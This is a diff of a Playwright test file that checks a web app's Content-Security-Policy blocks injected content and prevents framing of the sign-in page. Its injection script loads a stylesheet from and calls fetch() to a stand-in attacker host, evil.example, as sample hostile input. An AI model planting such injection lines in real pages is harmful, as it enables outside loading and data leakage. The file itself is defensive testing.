@@ -1,4 +1,4 @@
-"""What a page may not load or run. What it needs is asked for in every other test here: none may see a complaint."""
+"""The Content-Security-Policy blocks what it must. All other browser tests fail if it blocks what pages need."""
 
 from playwright.sync_api import Browser, expect
 
@@ -14,24 +14,24 @@ INJECT_SCRIPT = """() => {
     add('link', {rel: 'stylesheet', href: 'https://evil.example/style.css'});
     fetch('https://evil.example/out').catch(() => {});
 }"""
-# Streamlit multiplies large numbers in WebAssembly where it may, and without where it may not.
+# Streamlit uses WebAssembly for large numbers where allowed, and works without.
 EXPECTED_VIOLATIONS = ["script-src wasm-eval"]
-WATCH_SCRIPT = """document.addEventListener('securitypolicyviolation', told => {
-    (window.blocked ||= []).push(`${told.effectiveDirective} ${told.blockedURI}`);
+WATCH_SCRIPT = """document.addEventListener('securitypolicyviolation', violation => {
+    (window.blocked ||= []).push(`${violation.effectiveDirective} ${violation.blockedURI}`);
 })"""
 
 
-def test_what_is_brought_into_a_page_from_elsewhere_neither_loads_nor_runs(chromium: Browser, live_server: str) -> None:
+def test_injected_content_neither_loads_nor_runs(chromium: Browser, live_server: str) -> None:
     person = make.staff(role="admin", password=make.PASSWORD)
-    asked: list[str] = []
-    told: list[str] = []
+    requested_urls: list[str] = []
+    console: list[str] = []
     with chromium.new_context() as context:
         page = context.new_page()
         page.add_init_script(WATCH_SCRIPT)
-        page.on("requestfinished", lambda request: asked.append(request.url))
-        page.on("console", lambda each: told.append(each.text))
-        typed = {"email": person.email, "password": make.PASSWORD}
-        assert context.request.post(f"{live_server}/session/sign-in", form=typed).ok
+        page.on("requestfinished", lambda request: requested_urls.append(request.url))
+        page.on("console", lambda message: console.append(message.text))
+        credentials = {"email": person.email, "password": make.PASSWORD}
+        assert context.request.post(f"{live_server}/session/sign-in", form=credentials).ok
         page.goto(f"{live_server}/events")
         wait_until_drawn(page)
         assert page.evaluate("window.blocked") == EXPECTED_VIOLATIONS
@@ -48,15 +48,15 @@ def test_what_is_brought_into_a_page_from_elsewhere_neither_loads_nor_runs(chrom
             "style-src-elem https://evil.example/style.css",
         ]
         assert page.evaluate("window.ran") is None
-        assert [url for url in asked if "evil" in url] == []
-        assert [text for text in told if POLICY in text] != []  # so that the other tests would hear of it
+        assert [url for url in requested_urls if "evil" in url] == []
+        assert [text for text in console if POLICY in text] != []  # which is what the other tests check for
 
 
-def test_nobody_can_show_us_in_a_frame_of_theirs(chromium: Browser, live_server: str) -> None:
+def test_page_cannot_be_framed(chromium: Browser, live_server: str) -> None:
     with chromium.new_context() as context:
         page = context.new_page()
-        page.set_content(f'<iframe src="{live_server}/session/sign-in"></iframe><p>Theirs</p>')
-        expect(page.get_by_text("Theirs")).to_be_visible()
+        page.set_content(f'<iframe src="{live_server}/session/sign-in"></iframe><p>Other site</p>')
+        expect(page.get_by_text("Other site")).to_be_visible()
         page.wait_for_function("() => document.readyState === 'complete'")
         expect(page.frame_locator("iframe").get_by_role("button", name="Sign in")).to_have_count(0)
         assert page.frames[1].url.startswith("chrome-error:")
